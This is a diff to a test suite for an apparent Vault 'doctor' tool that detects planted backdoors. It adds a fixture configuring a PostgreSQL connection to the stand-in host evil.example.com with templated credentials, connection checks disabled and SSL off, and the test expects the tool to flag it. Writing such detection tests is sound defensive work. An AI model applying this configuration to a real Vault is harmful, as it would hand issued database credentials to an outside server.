@@ -165,7 +165,7 @@ const CASES: readonly Case[] = [
         },
       ],
     ],
-    finds: ["disable_iss_validation", "issuer", "use_annotations_as_alias_metadata"].map(
+    finds: ["disable_iss_validation", "issuer", "kubernetes_host", "use_annotations_as_alias_metadata"].map(
       (field) => `auth-config-differs vault path ${field} of auth/kubernetes-eu/config`,
     ),
     undo: [],
@@ -235,6 +235,26 @@ const CASES: readonly Case[] = [
     ],
   },
   {
+    name: "the connection to another server",
+    keep: `${MOUNT}/config/postgresql`,
+    make: [
+      [
+        `${MOUNT}/config/postgresql`,
+        {
+          plugin_name: "postgresql-database-plugin",
+          verify_connection: false,
+          allowed_roles: "*",
+          connection_url:
+            "postgresql://{{username}}:{{password}}@evil.example.com:5432/shop?sslmode=disable&target_session_attrs=read-write&application_name=vault",
+        },
+      ],
+    ],
+    finds: ["connection_url", "verify_connection"].map(
+      (field) => `connection-differs vault path ${field} of ${MOUNT}/config/postgresql`,
+    ),
+    undo: [],
+  },
+  {
     name: "a database role's statements and kind of credential",
     keep: `${MOUNT}/roles/eu.shop.web`,
     make: [
@@ -297,9 +317,11 @@ describe("doctor beside a backdoor in Vault", () => {
     expect(out).toContain("accepted: 1 finding\n");
     const said = [...out.matchAll(/not said: (.*)/g)].map(([, text]) => text);
     expect(said.filter((text) => text.includes("may not read"))).toEqual([]);
-    expect(said).toContainEqual(expect.stringMatching(/^mount database\/main\/shop: whether .* is the server of shop/));
     expect(said).toContainEqual(
-      expect.stringMatching(/^auth\/kubernetes-eu\/config: whether https?:.* is the cluster's API server/),
+      expect.stringMatching(/^mount database\/main\/shop: the CA by which its connection knows 127\.0\.0\.1:/),
+    );
+    expect(said).toContainEqual(
+      expect.stringMatching(/^auth\/kubernetes-eu\/config: what https:.*, which says who a pod is, leads to/),
     );
     expect(said).toContainEqual(expect.stringContaining("Vault: tokens that exist already"));
   });
